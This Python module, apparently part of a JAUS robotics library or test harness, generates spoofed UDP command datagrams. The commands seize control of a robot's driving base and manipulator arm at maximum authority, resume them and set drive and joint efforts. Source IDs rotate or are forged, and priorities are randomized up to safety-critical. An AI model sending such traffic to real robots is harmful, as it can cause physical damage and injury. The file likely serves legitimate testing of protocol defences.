"""Commands by somebody who is not entitled to them: each attack on a robot also tries to move its base and its arm."""

from __future__ import annotations

import random
from typing import Final

from jauspy.codec.message import Message
from jauspy.ids import JausID
from jauspy.messages.core import CreateCommandEvent, RequestControl, Resume, SetAuthority
from jauspy.messages.manipulator import SetJointEffort
from jauspy.messages.mobility import SetWrenchEffort
from jauspy.protocol import judp
from jauspy.protocol.header import Packet, Priority

INTERVAL: Final = 0.02
"""Seconds between two commands."""
DRIVER: Final = JausID.parse("101.1.102")
ARM: Final = JausID.parse("101.1.104")
_JOINTS: Final = 5
_WRENCH: Final = SetWrenchEffort(propulsive_linear_effort_x=90.0, propulsive_rotational_effort_z=60.0)
_EFFORT: Final = SetJointEffort([SetJointEffort.JointEffortRec(joint_effort=50.0)] * _JOINTS)
COMMANDS: Final[tuple[tuple[JausID, Message], ...]] = (
    (DRIVER, RequestControl(authority_code=255)),
    (DRIVER, Resume()),
    (DRIVER, _WRENCH),
    (DRIVER, SetAuthority(authority_code=1)),
    (DRIVER, _WRENCH),
    (DRIVER, CreateCommandEvent(request_id=1, maximum_allowed_duration=0, command_message=_WRENCH.encode())),
    (ARM, RequestControl(authority_code=255)),
    (ARM, Resume()),
    (ARM, _EFFORT),
)


class Commander:
    """Makes datagrams, in turn under each of these ids; every third time under one that nobody uses."""

    def __init__(self, chance: random.Random, ids: tuple[JausID, ...]) -> None:
        self._chance = chance
        self._ids = ids
        self._number = 0

    def next(self) -> bytes:
        """The next datagram."""
        number, chance = self._number, self._chance
        self._number += 1
        destination, command = COMMANDS[number % len(COMMANDS)]
        turn = number // len(COMMANDS)
        source = self._ids[turn % len(self._ids)] if turn % 3 else JausID(chance.randrange(200, 65000), 1, 1)
        priority = chance.choice((Priority.STANDARD, Priority.HIGH, Priority.SAFETY_CRITICAL))
        return judp.pack(Packet(source, destination, command.encode(), chance.randrange(1 << 16), priority))
